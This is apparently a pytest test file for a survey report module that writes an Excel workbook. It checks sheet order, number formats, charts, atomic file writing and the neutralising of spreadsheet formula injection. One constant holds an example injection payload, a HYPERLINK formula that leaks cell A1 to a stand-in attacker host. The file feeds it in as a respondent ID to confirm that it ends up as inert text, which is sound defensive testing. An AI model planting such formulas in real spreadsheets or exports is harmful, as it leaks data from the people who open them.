"""The report workbook: sheets, formatting, chart, formula injection, atomic writing.

The tables are small synthetic ones built here; the numbers mean nothing, only their shape does.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from surveyindex.errors import ReportError
from surveyindex.report import ReportTables, lead_sentences, write_workbook

VISIBLE = ["Summary", "Charts", "Index", "Favourability", "Dimensions", "Profile", "USA vs CHN",
           "Differences", "Leads", "Items", "Reliability", "Flags", "Weighting", "Bases",
           "Exclusions", "Methodology"]
HIDDEN = ["Chart data", "Dimension estimates", "Item estimates", "Reliability estimates"]
SHEETS = [*VISIBLE[:-1], *HIDDEN, "Methodology"]
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DIMS = ["morality", "competence", "culture", "technology", "education"]


def make_tables(countries=("BRA", "DEU", "IND", "JPN", "NGA"), targets=("USA", "CHN"),
                seed: int = 1) -> ReportTables:
    """Synthetic tables with every documented column, plus one undocumented column each."""
    rng = np.random.default_rng(seed)
    audiences = ["all", "young"]
    grid = pd.MultiIndex.from_product([countries, targets, audiences],
                                      names=["country", "target", "audience"]).to_frame(index=False)
    score = rng.uniform(30, 70, len(grid)).round(2)
    composite = grid.assign(score=score, se=1.5, ci_low=score - 2.94, ci_high=score + 3.5, n=1000,
                            rank=1, rank_low=1, rank_high=2.5, extra_column="ignored")
    dims = grid.merge(pd.DataFrame({"dimension": DIMS}), how="cross")
    dscore = rng.uniform(20, 80, len(dims))
    dimensions = dims.assign(mean=1 + dscore / 25, mean_se=0.04, score=dscore, se=1.0,
                             ci_low=dscore - 2, ci_high=dscore + 2, n=990, n_eff=700.4)
    pairs = grid[grid.target == targets[0]][["country", "audience"]].merge(
        pd.DataFrame({"measure": ["composite", *DIMS]}), how="cross")
    diff = rng.normal(0, 8, len(pairs))
    comparison = pairs.assign(target_a=targets[0], target_b=targets[1],
                              **{f"score_{targets[0]}": 50 + diff / 2,
                                 f"score_{targets[1]}": 50 - diff / 2}, difference=diff, se=3.0, ci_low=diff - 5.9,
                              ci_high=diff + 5.9, p_value=np.where(np.abs(diff) > 6, 0.0004, 0.4),
                              significant=np.abs(diff) > 6)
    k = len(countries)
    leads = pd.DataFrame({"audience": "all", "measure": ["composite", *DIMS],
                          "target_a": targets[0], "target_b": targets[1], "n_countries": k,
                          f"{targets[0]}_leads": 3, f"{targets[0]}_leads_ci_low": 2,
                          f"{targets[0]}_leads_ci_high": 4.0, f"{targets[0]}_leads_significant": 1,
                          f"{targets[1]}_leads": k - 3, f"{targets[1]}_leads_ci_low": 1,
                          f"{targets[1]}_leads_ci_high": 3, f"{targets[1]}_leads_significant": 0})
    items = dims.assign(item=dims.dimension + "_1", mean=3.2, mean_se=0.05, mean_ci_low=3.1,
                        mean_ci_high=3.3, n=980)
    reliability = grid[grid.audience == "all"].drop(columns="audience").merge(
        pd.DataFrame({"dimension": DIMS}), how="cross")
    alpha = rng.uniform(0.5, 0.9, len(reliability))
    reliability = reliability.assign(n_items=3, n=1000, alpha=alpha, alpha_std=alpha,
                                     ci_low=alpha - 0.05, ci_high=alpha + 0.05, average_r=0.4,
                                     flag=np.where(alpha < 0.6, "alpha below 0.60", ""))
    weighting = pd.DataFrame({"country": list(countries), "n": 1000, "sum_weights": 1000.0,
                              "deff_kish": 1.4, "n_eff": 714.3, "efficiency_pct": 71.4,
                              "weight_min": 0.3, "weight_max": 3.1, "weight_ratio": 10.3})
    ledger = pd.DataFrame({"item": ["rows in", "rows kept", "rows excluded",
                                    "  excluded: duplicate respondent id"], "count": [5003, 5000, 3, 3]})
    exclusions = pd.DataFrame({"row": [10, 11, 12], "line": [11, 12, 13],
                               "resp_id": [INJECTION, "@SUM(1+1)", "-2+3"],
                               "reason": ["duplicate respondent id"] * 3})
    methodology = {"Instrument": "softpower 1.0", "Data file": "responses.csv",
                   "Input SHA-256": "ab" * 32, "Weighting": "raking to age x sex margins",
                   "Replicates": "200 Rao-Wu bootstrap", "Seed": "20240101",
                   "Confidence level": "95%", "Normalisation": "linear to 0-100 " * 20,
                   "Package version": "surveyindex 0.1.0", "Date": "2024-05-01"}
    return ReportTables("How the world sees the United States and China", composite, dimensions,
                        comparison, leads, items, reliability, weighting, ledger, exclusions,
                        methodology)


@pytest.fixture(scope="module")
def tables() -> ReportTables:
    return make_tables()


@pytest.fixture(scope="module")
def book_path(tables, tmp_path_factory) -> Path:
    return write_workbook(tables, tmp_path_factory.mktemp("book") / "report.xlsx")


@pytest.fixture(scope="module")
def book(book_path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(book_path)


def rows_of(ws, header_row: int = 2) -> tuple[list, list[dict]]:
    """The header and the rows (header -> value) of a table sheet."""
    header = [c.value for c in ws[header_row]]
    rows = [dict(zip(header, r)) for r in ws.iter_rows(min_row=header_row + 1, values_only=True)]
    return header, rows


def column_of(ws, name: str, header_row: int = 2) -> int:
    return [c.value for c in ws[header_row]].index(name) + 1


def test_sheets_in_order(book):
    assert book.sheetnames == SHEETS
    assert [ws.title for ws in book.worksheets if ws.sheet_state == "visible"] == VISIBLE
    assert all(book[n].sheet_state == "hidden" for n in HIDDEN)


def test_comparison_sheet_named_from_the_data(tmp_path):
    book = openpyxl.load_workbook(write_workbook(make_tables(targets=("RUS", "IND")),
                                                 tmp_path / "r.xlsx"))
    assert book.sheetnames[6] == "RUS vs IND"
    # Targets are shown by name (ISO 3166 names for country codes).
    assert "Russian Federation \u2212 India" in rows_of(book["RUS vs IND"])[0]


def test_headers_frozen_and_filtered(book):
    ws = book["Index"]
    header = [c.value for c in ws[2]]
    # No base note column: no cell has a small base in these tables.
    assert header == ["Country", "ISO", "Target", "Audience", "Score", "SE", "CI low", "CI high",
                      "n", "Rank", "Rank from", "Rank to"]
    assert len(set(header)) == len(header)
    assert ws["A2"].font.b and ws["A1"].font.i  # caption above the header
    assert ws["A3"].value == "Brazil" and ws["B3"].value == "BRA" and ws["C3"].value == \
        "United States" and ws["D3"].value == "All adults"
    for name in ["Index", "Favourability", "USA vs CHN", "Leads", "Bases", "Weighting"]:
        assert book[name].freeze_panes == "A3", name
    # 5 countries x 2 targets x 2 audiences = 20 rows under the header
    assert ws.auto_filter.ref == "A2:L22"
    assert "Extra column" not in header and "extra_column" not in header


def test_every_visible_sheet_has_a_caption_and_unique_headers(book):
    for ws in book.worksheets:
        if ws.sheet_state != "visible" or ws.title in ("Summary", "Charts"):
            continue
        assert isinstance(ws["A1"].value, str) and len(ws["A1"].value) > 30, ws.title
        header = [c.value for c in ws[2] if c.value is not None]
        if ws.title not in ("Items", "Differences", "Dimensions", "Reliability"):
            assert len(set(header)) == len(header), (ws.title, header)


def test_print_setup(book):
    for ws in book.worksheets:
        if ws.sheet_state != "visible":
            assert not ws.print_area, ws.title  # LibreOffice would print it
            continue
        assert ws.print_area, ws.title
        assert ws.oddFooter.center.text == "&A - page &P of &N", ws.title
        if ws.title not in ("Summary", "Charts"):
            assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
            assert ws.print_title_rows in ("$1:$2", "$1:$3", "$1:$1"), ws.title


def test_number_formats(book):
    assert book["Index"]["E3"].number_format == "0.0"
    assert book["Index"]["F3"].number_format == "0.00"
    assert book["Index"]["I3"].number_format == "#,##0"
    ws = book["USA vs CHN"]
    assert ws.cell(3, column_of(ws, "p")).number_format.endswith("0.000")
    assert book["Weighting"]["C3"].number_format == "#,##0"


def test_colour_scale_on_scores(book):
    ranges = [str(r.sqref) for r in book["Index"].conditional_formatting]
    assert ranges == ["E3:E22"]
    # Dimensions, wide: each dimension's score column (after Country, ISO, Target, Audience, n).
    assert [str(r.sqref) for r in book["Dimensions"].conditional_formatting] == \
        [f"{c}4:{c}23" for c in "FILOR"]
    rule = book["Index"].conditional_formatting._cf_rules
    colours = [c.rgb for r in rule.values() for x in r for c in x.colorScale.color]
    assert "00F8696B" not in colours and "0063BE7B" not in colours  # no red-green


def test_significant_differences_marked(book, tables):
    ws = book["USA vs CHN"]
    mark, holm = column_of(ws, "CI excludes 0"), column_of(ws, "Holm significant")
    low, high = column_of(ws, "CI low"), column_of(ws, "CI high")
    diff = column_of(ws, "United States \u2212 China")
    for r, (sig, p) in enumerate(zip(tables.comparison["significant"],
                                     tables.comparison["p_value"]), start=3):
        assert ws.cell(r, holm).value == ("*" if sig else None)
        assert ws.cell(r, diff).font.b == bool(sig)
        # The unadjusted mark agrees with the unadjusted interval shown beside it.
        excludes = ws.cell(r, low).value > 0 or ws.cell(r, high).value < 0
        assert (ws.cell(r, mark).value == "*") == (p < 0.05) == excludes
    assert "Bonferroni" in ws["A1"].value and "unadjusted" in ws["A1"].value


def test_flagged_reliability_cells_highlighted(book, tables):
    ws = book["Reliability"]
    shown = {(ws.cell(r, 2).value, ws.cell(r, 3).value): r for r in range(4, ws.max_row + 1)}
    dims = [ws.cell(2, j).value for j in range(4, ws.max_column + 1, 3)]
    for row in tables.reliability.itertuples():
        r = shown[(row.country, "United States" if row.target == "USA" else "China")]
        j = 4 + 3 * dims.index(row.dimension)
        assert ws.cell(r, j).value == pytest.approx(row.alpha)
        assert (ws.cell(r, j).fill.fgColor.rgb == "00FFE699") == bool(row.flag)


def test_charts_with_error_bars_and_hidden_data(book):
    charts = book["Charts"]._charts
    # Composite for each audience, the forest chart for each, the dimension profile.
    assert [c.type for c in charts] == ["bar", "bar", "bar", "bar", "col"]
    series = charts[0].series
    assert len(series) == 2  # one per target
    assert series[0].errBars.errValType == "cust"
    assert series[0].graphicalProperties.solidFill.srgbClr == "0072B2"  # Okabe-Ito blue
    ws = book["Chart data"]
    assert ws.sheet_state == "hidden"
    # The first block: countries, then per target the score and the CI's distance below and
    # above it; the fixture's CI is score - 2.94 to score + 3.5.
    assert [ws.cell(2, j).value for j in range(1, 5)] == [
        "Country", "United States", "United States: CI below", "United States: CI above"]
    assert ws["C3"].value == pytest.approx(2.94) and ws["D3"].value == pytest.approx(3.5)
    assert series[0].errBars.minus.numRef.f == "'Chart data'!$C$3:$C$7"
    assert series[0].errBars.plus.numRef.f == "'Chart data'!$D$3:$D$7"
    usa = [ws.cell(r, 2).value for r in range(3, 8)]
    assert usa == sorted(usa, reverse=True)  # highest first
    forest = charts[2]
    # Its block starts at column Q (after the two composite blocks): Country, then the
    # significant bars and their CI in R-T, the others in U-W.
    assert [s.tx.strRef.f for s in forest.series] == ["'Chart data'!R2", "'Chart data'!U2"]
    assert book["Chart data"]["R2"].value == "Significant"
    assert forest.title.tx.rich.p[0].r[0].t.startswith("United States minus China")


def test_summary_states_the_findings(book):
    text = [c.value for c in book["Summary"]["B"] if isinstance(c.value, str)]
    assert ("United States rated higher than China on the composite index in 3 of 5 countries "
            "(95% interval 2-4); significantly (Holm) in 1.") in text
    first = [c.value for c in book["Summary"]["A"] if isinstance(c.value, str)]
    assert first[0] == "How the world sees the United States and China"
    assert "Headline findings" in first and "All adults (5 countries)" in first
    assert any(t.startswith("Largest differences, United States minus China") for t in text)
    # File names only, no folders or hashes, and nothing cut short.
    assert "raking to age x sex margins" in text
    assert not any("..." in t or "sha256" in t for t in text)


def test_lead_sentences_without_interval():
    leads = pd.DataFrame({"audience": ["all"], "measure": ["composite"], "target_a": ["USA"],
                          "target_b": ["CHN"], "n_countries": [13], "USA_leads": [9]})
    assert lead_sentences(leads) == [
        "United States rated higher than China on the composite index in 9 of 13 countries."]


def test_error_bar_xml_in_schema_order(tables, tmp_path):
    # ECMA-376 CT_ErrBars: ... noEndCap, plus, minus, val, spPr (Excel rejects other orders).
    with zipfile.ZipFile(write_workbook(tables, tmp_path / "r.xlsx")) as z:
        xml = z.read("xl/charts/chart1.xml").decode()
    assert xml.index("<plus>") < xml.index("<minus>")


def test_formula_text_neutralised(book, book_path):
    ws = book["Exclusions"]
    ids = {ws.cell(r, 6).value: ws.cell(r, 6) for r in range(3, 6)}
    assert set(ids) == {INJECTION, "@SUM(1+1)", "-2+3"}  # text unchanged, no visible prefix
    for cell in ids.values():
        assert cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(book_path) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets"))


def test_existing_file_untouched_when_writing_fails(tables, tmp_path, monkeypatch):
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"the previous report")

    def half_save(self, filename):
        Path(filename).write_bytes(b"PK half a zip")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", half_save)
    with pytest.raises(ReportError, match="report.xlsx.*No space left"):
        write_workbook(tables, target)
    assert target.read_bytes() == b"the previous report"
    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]


def test_creates_folder_and_replaces_file(tables, tmp_path):
    target = tmp_path / "a" / "b" / "report.xlsx"
    write_workbook(tables, target)
    write_workbook(tables, target)
    assert [p.name for p in target.parent.iterdir()] == ["report.xlsx"]


def test_unwritable_folder_is_a_report_error(tables, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(ReportError, match="file"):
        write_workbook(tables, blocker / "report.xlsx")


def test_wrong_table_type_named():
    with pytest.raises(ReportError, match="ReportTables.leads"):
        ReportTables("t", *[pd.DataFrame()] * 3, None, *[pd.DataFrame()] * 5, methodology={})


def test_empty_tables(tmp_path):
    empty = ReportTables("Empty", *[pd.DataFrame()] * 9, methodology={})
    book = openpyxl.load_workbook(write_workbook(empty, tmp_path / "empty.xlsx"))
    assert book.sheetnames == SHEETS
    assert book["Index"]["A2"].value == "Country" and book["Index"]["A3"].value == "no rows"
    assert book["Exclusions"]["D3"].value == "no rows excluded"
    assert not book["Charts"]._charts and not book["Summary"]._charts


def test_missing_and_odd_values(tables, tmp_path):
    odd = tables.composite.astype({"score": object}).copy()
    odd.loc[0, "score"], odd.loc[1, "se"], odd.loc[2, "country"] = pd.NA, np.inf, "bad\x07name"
    odd.loc[3, "country"] = "#N/A"  # openpyxl would store this as an error value
    t = ReportTables(tables.title, odd, *[getattr(tables, f) for f in
                     ["dimensions", "comparison", "leads", "items", "reliability", "weighting",
                      "ledger_summary", "exclusions"]], methodology=tables.methodology)
    ws = openpyxl.load_workbook(write_workbook(t, tmp_path / "odd.xlsx"))["Index"]
    assert ws["E3"].value is None and ws["F4"].value is None
    assert ws["B5"].value == "bad\ufffdname" and ws["A5"].value == "bad\ufffdname"
    assert ws["B6"].value == "#N/A" and ws["B6"].data_type == "s"


def test_interrupted_write_leaves_no_temp_file(tables, tmp_path, monkeypatch):
    def interrupted(self, filename):
        Path(filename).write_bytes(b"PK")
        raise KeyboardInterrupt

    monkeypatch.setattr(openpyxl.Workbook, "save", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_workbook(tables, tmp_path / "report.xlsx")
    assert list(tmp_path.iterdir()) == []
